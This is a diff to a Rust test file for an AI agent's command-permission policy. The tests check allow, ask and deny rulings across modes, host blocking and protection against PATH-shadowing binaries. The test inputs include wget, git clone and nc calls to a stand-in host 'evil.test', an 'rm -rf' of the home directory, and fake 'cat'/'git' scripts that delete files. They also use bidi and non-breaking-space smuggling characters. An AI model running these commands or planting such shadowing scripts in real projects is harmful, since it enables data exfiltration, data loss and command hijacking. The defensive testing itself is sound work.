@@ -2,7 +2,6 @@
 //! commands here, and in the folder on files, names, secrets and what the model is told.
 
 mod files;
-mod led;
 mod looking;
 mod names;
 pub(crate) mod secrets;
@@ -32,9 +31,10 @@ fn bash(project: &Project, command: &str) -> Run {
     exec(project, "Bash", &json!({ "command": command }))
 }
 
-/// How a command is decided on: 0 allow, 3 ask, 1 deny.
-fn ruling(project: &Project, command: &str) -> i32 {
-    project.brynhild(&["policy", "check", "--", command]).status.code().unwrap()
+/// The decision on a command in a mode: 0 allow, 3 ask, 1 deny.
+fn ruling(project: &Project, mode: &str, command: &str) -> i32 {
+    let run = project.brynhild(&["--mode", mode, "policy", "check", "--", command]);
+    run.status.code().unwrap()
 }
 
 #[test]
@@ -44,17 +44,22 @@ fn commands_are_decided_as_the_published_table_says() {
     let table = include_str!("../../../policy/tests/commands.txt");
     let plain = |line: &&str| !line.is_empty() && !line.starts_with('#') && !line.contains('«');
     for line in table.lines().filter(plain) {
-        let (wanted, command) = line.split_once(' ').unwrap();
-        // The table is written for a project at `/w` and for a person with more rules.
+        let mut words = line.splitn(3, ' ');
+        let wanted = [words.next().unwrap(), words.next().unwrap()];
+        // The table's home directory is below `/home`.
+        let top = project.home().iter().nth(1).unwrap().to_str().unwrap().to_owned();
+        let command = words.next().unwrap().replace("rm -rf home", &format!("rm -rf {top}"));
         let command = command.replace('␊', "\n").replace('␍', "\r");
         let command = command.replace("⟨202e⟩", "\u{202e}").replace("⟨2066⟩", "\u{2066}");
         let command = command.replace("⟨a0⟩", "\u{a0}").replace("⟨00a0⟩", "\u{a0}");
-        let wanted = match wanted {
-            "allow" => 0,
-            "ask" => 3,
-            _ => 1,
-        };
-        assert_eq!(ruling(&project, &command), wanted, "{command:?}");
+        for (mode, wanted) in ["ask", "normal"].into_iter().zip(wanted) {
+            let wanted = match wanted {
+                "allow" => 0,
+                "ask" => 3,
+                _ => 1,
+            };
+            assert_eq!(ruling(&project, mode, &command), wanted, "{mode} {command:?}");
+        }
     }
 }
 
@@ -63,8 +68,8 @@ fn a_denied_command_at_the_end_of_a_very_long_one_is_denied() {
     let project = project();
     project.config(RULES);
     let chain = "true && ".repeat(10_000);
-    assert_eq!(ruling(&project, &format!("{chain}curl x")), 1);
-    assert_eq!(ruling(&project, &format!("{chain}ls")), 3);
+    assert_eq!(ruling(&project, "normal", &format!("{chain}curl x")), 1);
+    assert_eq!(ruling(&project, "normal", &format!("{chain}ls")), 0);
     let server = ModelServer::start([
         Reply::calls([("Bash", json!({"command": format!("{}curl x", "true; ".repeat(150_000))}))]),
         Reply::text("done"),
@@ -85,57 +90,38 @@ fn a_denied_command_at_the_end_of_a_very_long_one_is_denied() {
 }
 
 #[test]
-fn a_denied_host_is_denied_inside_a_command() {
+fn a_denied_host_is_denied_to_a_command() {
     let project = project();
     project.config(RULES);
     for command in ["wget http://evil.test/x", "git clone git@evil.test:a/b", "nc evil.test 80"] {
-        assert_eq!(ruling(&project, command), 1, "{command}");
         assert_ne!(bash(&project, command).status.code(), Some(0), "{command}");
+        for network in [json!(["evil.test"]), json!(["other.test", "x.evil.test"]), json!(true)] {
+            let run = exec(&project, "Bash", &json!({"command": command, "network": network}));
+            assert_eq!(run.status.code(), Some(1), "{command} {network}: {run}");
+            assert!(run.stderr.contains("denied"), "{command} {network}: {run}");
+        }
     }
 }
 
 #[test]
-fn a_program_that_the_project_brings_is_not_taken_for_the_system_s() {
-    let project = project();
-    let own = project.path().join("node_modules/.bin");
-    project.file("node_modules/.bin/ls", "#!/bin/sh\ntouch fooled\n");
-    let decide = |path: String| {
-        project.command(&["policy", "check", "ls"]).env("PATH", path).run().status.code()
-    };
-    assert_eq!(decide(String::from("/usr/bin:/bin")), Some(0));
-    assert_eq!(decide(format!("/usr/bin:/bin:{}", own.display())), Some(0));
-    // Nothing but the project's own folder has it.
-    assert_eq!(decide(own.display().to_string()), Some(3));
-    assert_eq!(decide(String::from(".")), Some(3));
-}
-
-#[test]
-fn with_a_folder_of_the_project_on_the_search_path_what_looks_runs_from_the_system() {
+fn a_program_of_the_project_is_read_only_under_a_known_name() {
     let project = project();
     let own = project.path().join(".venv/bin");
     project.file("a.txt", "plain\n");
-    for name in ["cat", "grep", "gzip", "git"] {
-        project.file(format!(".venv/bin/{name}"), "#!/bin/sh\necho fooled\n");
+    for name in ["cat", "git"] {
+        project.file(format!(".venv/bin/{name}"), "#!/bin/sh\ntouch fooled; rm -f a.txt\n");
         let executable = std::fs::Permissions::from_mode(0o755);
         std::fs::set_permissions(own.join(name), executable).unwrap();
     }
-    for front in [own.display().to_string(), ".".to_owned(), String::new()] {
-        let path = format!("{front}:/usr/bin:/bin");
-        let run = |words: &[&str]| project.command(words).env("PATH", &path).run();
-        for command in ["cat a.txt", "egrep plain a.txt", "cat a.txt | head -1"] {
+    let path = format!("{}:/usr/bin:/bin", own.display());
+    for mode in ["read-only", "ask", "normal"] {
+        for command in ["cat a.txt", "git status"] {
             let input = json!({"command": command}).to_string();
-            let run = run(&["tools", "exec", "Bash", "--input", &input]);
-            run.success();
-            assert!(run.stdout.contains("plain"), "{command}: {run}");
-            assert!(!run.stdout.contains("fooled"), "{command}: {run}");
+            let words = ["--mode", mode, "tools", "exec", "Bash", "--input", &input];
+            let run = project.command(&words).env("PATH", &path).run();
+            assert!(!project.path().join("fooled").exists(), "{mode} {command}: {run}");
+            assert_eq!(project.read("a.txt"), "plain\n", "{mode} {command}: {run}");
         }
-        // What tells where programs lie is not given another answer, and what needs its own programs
-        // keeps them.
-        assert_eq!(run(&["policy", "check", "cat a.txt && which cat"]).status.code(), Some(3));
-        assert_eq!(run(&["policy", "check", "cat a.txt && make"]).status.code(), Some(3));
-        let input = json!({"command": "cat a.txt; : > made"}).to_string();
-        let run = run(&["tools", "exec", "Bash", "--input", &input, "--yes"]);
-        assert_eq!(run.stdout.contains("fooled"), front == own.display().to_string(), "{run}");
     }
 }
 
@@ -195,11 +181,11 @@ fn no_argument_of_a_tool_moves_it_or_opens_its_sandbox() {
 fn values_are_never_taken_for_options() {
     let project = project();
     for words in [
-        ["policy", "check", "--", "--mode=yolo"],
-        ["session", "show", "--", "--config=x"],
-        ["trust", "--", "--yes", "--list"],
+        &["--mode=ask", "policy", "check", "--", "--mode=yolo"][..],
+        &["session", "show", "--", "--config=x"],
+        &["trust", "--", "--yes", "--list"],
     ] {
-        let run = project.brynhild(&words);
+        let run = project.brynhild(words);
         assert_ne!(run.status.code(), Some(0), "{words:?}: {run}");
     }
     let server = ModelServer::start([Reply::text("hello")]);
